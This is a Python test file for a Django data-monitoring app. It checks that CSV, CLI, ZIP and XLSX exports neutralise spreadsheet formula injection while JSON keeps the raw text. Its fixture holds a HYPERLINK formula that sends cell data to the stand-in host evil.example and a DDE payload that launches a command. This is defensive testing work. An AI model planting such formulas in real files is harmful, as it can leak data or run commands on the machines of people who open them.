"""Text from an uploaded file that a spreadsheet would run as a formula comes out neutralised in
every CSV and XLSX monitoring writes (the apostrophe convention of the list exports), exactly in
JSON; numbers stay numbers and the statistical symbols stay as they are (#11, finding 11)."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from monitoring.opendata import write_xlsx
from monitoring.selectors import EXPORT_HEADER, observation_rows
from monitoring.services import observations_import

pytestmark = pytest.mark.django_db

SOURCE = '=HYPERLINK("http://evil.example/?"&A1,"Quelle")'
UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
CODE = "formeltest"


@pytest.fixture
def hostile(reference_territories):
    data = b"AGS;Art;Wert\n16051;a;12\n16051;b;-\n"
    mapping = {
        "region_key": "AGS", "fixed_period": "2024", "measures": {"Wert": "WERT"},
        "dimensions": ["Art"], "units": {"WERT": UNIT}, "dataset_code": CODE,
        "title": "Formeltest", "source": SOURCE,
    }  # fmt: skip
    log = observations_import(data=data, filename="formeltest.csv", mapping=mapping)
    assert log.status == "succeeded", log.errors
    return CODE


def _check(records: list[dict]) -> None:
    assert {r["source"] for r in records} == {"'" + SOURCE}
    assert {r["unit"] for r in records} == {"'" + UNIT}
    assert sorted((r["value"], r["symbol"]) for r in records) == [("0", "-"), ("12", "")]


def test_the_open_data_csv_of_a_dataset_neutralises_formulas_and_json_keeps_them(hostile, client):
    response = client.get(reverse("monitoring_opendata:dataset_download", args=[CODE, "csv"]))
    text = b"".join(response.streaming_content).decode()
    _check(list(csv.DictReader(io.StringIO(text))))
    response = client.get(reverse("monitoring_opendata:dataset_download", args=[CODE, "json"]))
    records = json.loads(b"".join(response.streaming_content))
    assert {(r["source"], r["unit"]) for r in records} == {(SOURCE, UNIT)}


def test_the_cli_export_neutralises_formulas(hostile):
    out = io.StringIO()
    call_command("export_data", "observations", "--dataset", CODE, "--format", "csv", stdout=out)
    _check(list(csv.DictReader(io.StringIO(out.getvalue()))))


def test_the_everything_zip_neutralises_formulas(hostile, client):
    response = client.get(reverse("monitoring_opendata:everything"))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    text = archive.read(f"datasets/{CODE}.csv").decode()
    _check(list(csv.DictReader(io.StringIO(text))))


def test_the_xlsx_neutralises_formulas_and_keeps_numbers(hostile):
    from monitoring.models import Dataset

    buffer = io.BytesIO()
    write_xlsx(buffer, EXPORT_HEADER, observation_rows(Dataset.objects.get(code=CODE)))
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    header, *rows = sheet.iter_rows(values_only=True)
    records = [dict(zip(header, row, strict=True)) for row in rows]
    assert {r["source"] for r in records} == {"'" + SOURCE}
    assert sorted((r["value"], r["symbol"]) for r in records) == [(0, "-"), (12, None)]
